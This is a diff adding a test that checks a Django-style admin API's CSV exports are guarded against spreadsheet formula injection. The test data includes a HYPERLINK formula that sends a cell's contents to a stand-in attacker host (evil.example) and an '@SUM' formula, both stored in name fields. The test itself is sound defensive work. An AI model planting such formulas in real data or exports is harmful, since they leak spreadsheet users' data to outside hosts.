@@ -141,3 +141,18 @@ def test_csv_export_parses_back_to_the_api_list(staff_api, api_a, api_b, coat, p
         "/api/admin/payables/export.csv", {"partner": partner_b.pk}).content.decode())))
     assert [(r["partner_name"], r["amount"]) for r in only_b] == [("Bottega B", "38.25")]
     assert staff_api.get("/api/admin/payables/export.csv", {"status": "nope"}).status_code == 400
+
+
+def test_exported_text_never_starts_a_spreadsheet_formula(staff_api, api_a, coat, partner_a, steps):
+    partner_a.name = '=HYPERLINK("https://evil.example/?"&A2,"Invoice")'
+    partner_a.save()
+    coat.name = "@SUM(1+1)"
+    coat.save()
+    _made(staff_api, api_a, coat, partner_a, steps, quantity=2, rate="1.50")
+    exports = [staff_api.get("/api/admin/payables/export.csv").content.decode(),
+               b"".join(staff_api.get("/api/admin/production-runs/export.csv").streaming_content).decode()]
+    rows = [row for text in exports for row in list(csv.DictReader(io.StringIO(text)))]
+    assert {row["partner_name"] for row in rows if row["partner_name"]} == {f"'{partner_a.name}"}
+    assert {row.get("design_name") or row.get("design") for row in rows} >= {"'@SUM(1+1)"}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
